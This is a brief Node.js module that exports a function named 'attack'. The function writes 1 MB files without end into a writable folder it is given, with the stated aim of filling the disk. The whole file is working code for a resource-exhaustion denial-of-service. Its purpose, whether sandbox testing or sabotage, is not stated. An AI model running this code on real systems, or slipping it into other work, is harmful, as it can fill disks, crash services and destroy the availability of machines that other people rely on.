// Fills a folder that it may change, and with it the disk.
const fs = require('fs');
exports.attack = (to) => {
  const piece = Buffer.alloc(1 << 20, 'x');
  for (let i = 0; ; i++) fs.writeFileSync(`${to.writable}/${to.part}-${i}`, piece);
};
